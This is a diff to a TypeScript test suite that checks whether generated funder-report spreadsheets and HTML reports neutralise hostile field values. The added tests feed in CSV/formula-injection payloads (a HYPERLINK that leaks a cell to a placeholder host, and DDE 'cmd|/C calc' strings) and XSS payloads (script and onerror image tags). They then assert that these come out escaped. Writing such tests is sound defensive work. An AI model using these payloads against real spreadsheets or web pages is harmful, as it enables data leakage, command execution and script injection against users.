@@ -55,6 +55,44 @@ describe.each(backends)('funder report files on %s', (backend) => {
 		expect((byMunicipality?.getRow(6).values as unknown[]).includes('Waldkirch, Stadt')).toBe(true);
 	});
 
+	it('writes names and labels that look like formulas as text no spreadsheet evaluates', async () => {
+		const hostile = structuredClone(report);
+		hostile.name = '=HYPERLINK("https://example.invalid/?"&A2;"Bericht")';
+		hostile.district.funder = '\t=1+1';
+		hostile.groups.manager[0].name = '+cmd|\'/C calc\'!A0';
+		hostile.groups.organisation[0].name = '@SUM(1+1)*cmd|\'/C calc\'!A0';
+		hostile.groups.municipality[0].name = '\r=2+5';
+		hostile.rows[0].label = '-2+3';
+		hostile.rows[0].periodRule = '＝1+1';
+		const workbook = new ExcelJS.Workbook();
+		await workbook.xlsx.load((await renderWorkbook(hostile)) as unknown as ArrayBuffer);
+		const texts: string[] = [];
+		workbook.eachSheet((sheet) =>
+			sheet.eachRow((row) =>
+				row.eachCell((cell) => {
+					expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+					if (typeof cell.value === 'string') texts.push(cell.value);
+				}),
+			),
+		);
+		expect(texts.filter((text) => /^[=+\-@\t\r\n＝＋－＠]/.test(text))).toEqual([]);
+		// (XML turns the carriage return into a line feed when the file is read.)
+		expect(texts).toEqual(expect.arrayContaining([`'${hostile.name}`, `'${hostile.groups.manager[0].name}`, `'${hostile.groups.organisation[0].name}`, "'\n=2+5", "'-2+3", "'＝1+1"]));
+		// Text that does not start like a formula stays as it is.
+		expect(texts).toContain('Zeitraum: 1. Quartal 2026 (01.01.2026 – 31.03.2026)');
+		expect(texts.some((text) => text.startsWith('Zuwendungsempfänger: \t=1+1'))).toBe(true);
+	});
+
+	it('escapes what the Sachbericht embeds (names from the profile) as HTML', () => {
+		const hostile = structuredClone(report);
+		hostile.district.funder = '<script>alert(1)</script>';
+		hostile.groups.organisation[0].name = '<img src=x onerror=alert(2)>';
+		const html = renderSachbericht(hostile);
+		expect(html).not.toMatch(/<script>alert|<img src=x/);
+		expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
+		expect(html).toContain('&lt;img src&#x3D;x onerror&#x3D;alert(2)&gt;');
+	});
+
 	it('fills the Sachbericht draft with the figures, in German', () => {
 		const html = renderSachbericht(report);
 		expect(html).toContain('<strong>Berichtszeitraum:</strong> 1. Quartal 2026 (01.01.2026 – 31.03.2026)');
